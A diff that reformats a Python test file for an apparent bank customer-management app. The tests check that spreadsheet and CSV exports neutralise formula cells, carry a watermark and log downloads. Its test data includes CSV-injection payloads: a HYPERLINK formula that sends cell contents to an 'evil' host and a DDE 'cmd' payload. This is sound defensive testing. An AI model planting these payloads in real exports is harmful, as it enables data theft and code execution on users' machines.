@@ -2,6 +2,7 @@
 field sheet (Excel and print page), the target and actual templates, the explorer's customer
 table - neutralises cells starting with = + - @ tab CR, starts each sheet with the watermark
 line (who, when), and each click is logged ('download' in the audit log)."""
+
 from __future__ import annotations
 
 import csv
@@ -23,8 +24,17 @@ from core.scope import Scope
 from core.visits.field_sheet import COLUMNS, to_excel, to_html
 from tests.helpers import ROOT, open_page, query
 
-FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)",
-            "\t=1", "\r=1", "=1+1", "-", "+86 138"]
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&A1,"点击")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1",
+    "\r=1",
+    "=1+1",
+    "-",
+    "+86 138",
+]
 
 
 def cells(data: bytes):
@@ -45,8 +55,11 @@ def assert_formula_safe_with_watermark(data: bytes, who: str = "") -> int:
         sheets.add(ws.title)
         assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
         if isinstance(cell.value, str):
-            assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.coordinate,
-                                                               cell.value)
+            assert not cell.value.startswith(FORMULA_STARTS), (
+                ws.title,
+                cell.coordinate,
+                cell.value,
+            )
             # a neutralised payload (xlsx stores CR as a line feed: "\r=1" reads back "\n=1")
             planted += any(cell.value == "'" + f.replace("\r", "\n") for f in FORMULAS)
     wb = load_workbook(io.BytesIO(data))
@@ -57,10 +70,19 @@ def assert_formula_safe_with_watermark(data: bytes, who: str = "") -> int:
 
 def test_the_field_sheet_is_formula_safe_and_watermarked():
     n = len(FORMULAS)
-    rows = pd.DataFrame({"day": [1 + i % 2 for i in range(n)], "seq": range(1, n + 1),
-                         "cust_no": FORMULAS, "name": FORMULAS, "phone": FORMULAS,
-                         "address": FORMULAS, "grid": FORMULAS, "offers": FORMULAS,
-                         "notes": FORMULAS})
+    rows = pd.DataFrame(
+        {
+            "day": [1 + i % 2 for i in range(n)],
+            "seq": range(1, n + 1),
+            "cust_no": FORMULAS,
+            "name": FORMULAS,
+            "phone": FORMULAS,
+            "address": FORMULAS,
+            "grid": FORMULAS,
+            "offers": FORMULAS,
+            "notes": FORMULAS,
+        }
+    )
     headers = {c: c for c in COLUMNS}
     stamp = watermark("张三(manager)")
     data = to_excel(rows, headers, FORMULAS[0], ["周一", "周二"], stamp)
@@ -72,12 +94,19 @@ def test_the_field_sheet_is_formula_safe_and_watermarked():
 
 
 def test_tables_as_xlsx_and_csv_are_formula_safe_and_watermarked():
-    frame = pd.DataFrame({"name": FORMULAS, "phone": FORMULAS, "deposit": range(len(FORMULAS)),
-                          "note": [None] * len(FORMULAS)})
+    frame = pd.DataFrame(
+        {
+            "name": FORMULAS,
+            "phone": FORMULAS,
+            "deposit": range(len(FORMULAS)),
+            "note": [None] * len(FORMULAS),
+        }
+    )
     headers = {"name": "=名称", "phone": "电话", "deposit": "存款", "note": "备注"}
     stamp = watermark("李四(branch)")
-    assert assert_formula_safe_with_watermark(table_xlsx(frame, headers, "客户", stamp),
-                                              "李四(branch)") == 2 * len(FORMULAS)
+    assert assert_formula_safe_with_watermark(
+        table_xlsx(frame, headers, "客户", stamp), "李四(branch)"
+    ) == 2 * len(FORMULAS)
     lines = list(csv.reader(io.StringIO(table_csv(frame, headers, stamp).decode("utf-8-sig"))))
     assert lines[0] == [stamp]
     for line in lines[1:]:
@@ -89,8 +118,7 @@ def test_tables_as_xlsx_and_csv_are_formula_safe_and_watermarked():
 def test_templates_are_formula_safe_and_still_import(fresh_county):
     with fresh_county.begin() as conn:  # hostile names where the templates show them
         conn.execute(text("UPDATE branch SET name = :n WHERE id = 1"), {"n": FORMULAS[0]})
-        conn.execute(text("UPDATE manager SET name = :n WHERE branch_id = 1"),
-                     {"n": FORMULAS[1]})
+        conn.execute(text("UPDATE manager SET name = :n WHERE branch_id = 1"), {"n": FORMULAS[1]})
         conn.execute(text("UPDATE bank SET name = :n"), {"n": FORMULAS[3]})
     stamp = watermark("总行(hq)")
     hq = target_template(fresh_county, Scope("hq"), 2026, stamp)
@@ -103,6 +131,7 @@ def test_templates_are_formula_safe_and_still_import(fresh_county):
 
 
 # ---- the pages: the file made on click, the click logged ----------------------------------
+
 
 @pytest.fixture
 def deferred(monkeypatch):
@@ -133,22 +162,33 @@ def county(county_copy, monkeypatch, navigation_mode):
 
 
 def downloads(url: str) -> list:
-    return query(url, "SELECT entity, user_id, detail FROM audit_log WHERE action = 'download' "
-                      "ORDER BY id")
+    return query(
+        url, "SELECT entity, user_id, detail FROM audit_log WHERE action = 'download' ORDER BY id"
+    )
 
 
 def plant(url: str, where: str, **params) -> None:
     """Formula payloads in the names, addresses and grids of the chosen customers."""
     engine = make_engine(url)
     with engine.begin() as conn:
-        ids = conn.execute(text(f"SELECT id FROM customer WHERE {where} ORDER BY id"),
-                           params).scalars().all()
+        ids = (
+            conn.execute(text(f"SELECT id FROM customer WHERE {where} ORDER BY id"), params)
+            .scalars()
+            .all()
+        )
         for i, cid in enumerate(ids):
             f = FORMULAS[i % len(FORMULAS)]
-            conn.execute(text("UPDATE customer SET name = :f, address = :f WHERE id = :c"),
-                         {"f": f, "c": cid})
-        conn.execute(text(f"UPDATE grid SET name = :f WHERE id IN (SELECT grid2_id FROM "
-                          f"customer WHERE {where})"), {"f": FORMULAS[0], **params})
+            conn.execute(
+                text("UPDATE customer SET name = :f, address = :f WHERE id = :c"),
+                {"f": f, "c": cid},
+            )
+        conn.execute(
+            text(
+                f"UPDATE grid SET name = :f WHERE id IN (SELECT grid2_id FROM "
+                f"customer WHERE {where})"
+            ),
+            {"f": FORMULAS[0], **params},
+        )
     engine.dispose()
 
 
@@ -161,10 +201,12 @@ def test_the_explorer_customer_table_download(county, deferred):
     assert downloads(county) == []  # shown, not clicked: nothing logged
     data = deferred(at, "xf_download")
     assert assert_formula_safe_with_watermark(data, "(branch)") > 0
-    (entity, user_id, detail), = downloads(county)
+    ((entity, user_id, detail),) = downloads(county)
     detail = json.loads(detail)
-    assert entity == "customers" and detail["rows"] == load_workbook(
-        io.BytesIO(data)).active.max_row - 2
+    assert (
+        entity == "customers"
+        and detail["rows"] == load_workbook(io.BytesIO(data)).active.max_row - 2
+    )
     assert user_id == query(county, "SELECT id FROM app_user WHERE username = 'branch'")[0][0]
     assert "filters" in detail
 
@@ -178,7 +220,7 @@ def test_the_field_sheet_download(county, deferred):
     assert not at.exception
     data = deferred(at, "sheet_excel")
     assert assert_formula_safe_with_watermark(data, "(manager)") > 0
-    (entity, _, detail), = downloads(county)
+    ((entity, _, detail),) = downloads(county)
     assert entity == "field_sheet" and json.loads(detail)["filters"]["manager_id"] == manager
 
 
@@ -190,8 +232,10 @@ def test_the_target_templates_download(county, deferred):
     engine.dispose()
     at = open_page("hq", "pages/targets.py")
     assert not at.exception
-    for key, what in (("targets_download", "target_template"),
-                      ("actuals_download", "actual_template")):
+    for key, what in (
+        ("targets_download", "target_template"),
+        ("actuals_download", "actual_template"),
+    ):
         assert assert_formula_safe_with_watermark(deferred(at, key), "(hq)") > 0
         assert downloads(county)[-1][0] == what
     assert len(downloads(county)) == 2
